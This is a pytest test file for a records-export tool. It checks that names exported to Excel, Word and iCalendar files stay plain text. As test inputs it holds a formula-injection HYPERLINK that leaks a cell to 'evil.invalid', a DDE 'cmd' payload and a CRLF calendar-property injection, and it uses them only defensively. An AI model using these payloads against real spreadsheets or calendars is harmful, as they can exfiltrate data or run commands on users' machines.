"""Text from records in the exported files is data, never a formula, a calendar property or a
crash: the files are opened again with their own libraries."""

from __future__ import annotations

import io
from pathlib import Path

import docx
import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from icalendar import Calendar

from tests.builders.repo import NoClock, Repo, write_minimal_repo
from ysxt_build.cli import export as export_cli
from ysxt_build.cli.main import main
from ysxt_build.exports.cells import FORMULA_START, data_as_text
from ysxt_build.exports.docx import Block, ReportDoc, render_docx
from ysxt_build.records.characters import first_refused

ORG_NAME = '=HYPERLINK("http://evil.invalid/?x="&A1,"青山村")'
MEMBER = "+cmd|' /C calc'!A0"


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Repo:
    monkeypatch.setattr(export_cli, "date", NoClock)
    repo = write_minimal_repo(tmp_path / "repo")
    repo.replace("records/organizations/qingshan-village.yaml", "name: 青山村党总支", f"name: '{ORG_NAME}'")
    repo.replace("records/organizations/qingshan-village.yaml", "name: 张伟", f'name: "{MEMBER}"')
    out = tmp_path / "out"
    out.mkdir()
    monkeypatch.chdir(out)
    return repo


def test_the_hostile_names_pass_the_check(hostile: Repo) -> None:
    assert hostile.check().exit_code == 0  # "=" and "+" are ordinary characters in a name


def test_no_cell_of_the_summary_is_a_formula(hostile: Repo) -> None:
    result = hostile.runner.invoke(
        main, ["export", "summary", "--repo", str(hostile.root), "--period", "2025", "--as-of", "2026-02-05"]
    )
    assert result.exit_code == 0, result.output
    wb = openpyxl.load_workbook(result.stdout.strip())
    texts = []
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_START):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate)
    assert ORG_NAME in texts  # shown as written
    assert any(MEMBER in t for t in texts)


@given(st.sampled_from(FORMULA_START), st.text().filter(lambda s: first_refused(s, multiline=True) is None))
@settings(max_examples=60, deadline=None)
def test_any_text_that_passed_the_check_stays_text(start: str, rest: str) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.cell(row=1, column=1, value=start + rest)
    data_as_text(wb)
    out = io.BytesIO()
    wb.save(out)
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet is not None
    back = sheet["A1"]
    assert (back.data_type, back.value, back.quotePrefix) == ("s", start + rest, True)


@given(st.text().filter(lambda s: first_refused(s, multiline=True) is None))
@settings(max_examples=100, deadline=None)
def test_word_export_never_crashes_on_text_that_passed_the_check(text: str) -> None:
    doc = ReportDoc(
        title=text, blocks=tuple(Block(kind, text) for kind in ("title", "addressee", "body", "heading1", "signature", "date")),
        organization=text, period="2025H1",
    )
    raw = render_docx(doc)
    paragraphs = [p.text for p in docx.Document(io.BytesIO(raw)).paragraphs if p.text]
    assert text.strip() == "" or text in paragraphs or any(text.replace("\n", "") in p.replace("\n", "") for p in paragraphs)


def test_calendar_text_cannot_start_a_property(hostile: Repo) -> None:
    from datetime import date

    from ysxt_build.exports.ics import site_context
    from ysxt_build.portal.ics import _event
    from ysxt_build.status.pipeline import compute_repository

    computed = compute_repository(hostile.root, date(2025, 12, 31))
    from ysxt_build.records.schemas import SchemaSet

    ctx = site_context(computed.report, computed.dataset, computed.labels, SchemaSet.load())
    cal = Calendar()
    cal.add("prodid", "x")
    cal.add("version", "2.0")
    evil = "截止\r\nATTENDEE:mailto:evil@x.invalid\r\nBEGIN:VALARM\x1b[31m\x00" + "长" * 200
    cal.add_component(_event(ctx, "uid@ysxt", date(2026, 1, 1), evil, evil))
    raw = cal.to_ical()
    assert all(len(line) <= 75 for line in raw.split(b"\r\n"))
    assert b"\x1b" not in raw and b"\x00" not in raw
    parsed = Calendar.from_ical(raw)
    [event] = parsed.walk("VEVENT")
    assert "ATTENDEE" not in event and not event.subcomponents
    assert str(event["SUMMARY"]).startswith("截止\ufffd\nATTENDEE:mailto:evil@x.invalid\ufffd\nBEGIN:VALARM\ufffd[31m")


def test_the_calendar_export_with_hostile_names(hostile: Repo) -> None:
    result = hostile.runner.invoke(main, ["export", "calendar", "--repo", str(hostile.root), "--as-of", "2025-12-31"])
    assert result.exit_code == 0, result.output
    cal = Calendar.from_ical(Path(result.stdout.strip()).read_bytes())
    assert any(ORG_NAME in str(e["SUMMARY"]) for e in cal.walk("VEVENT"))
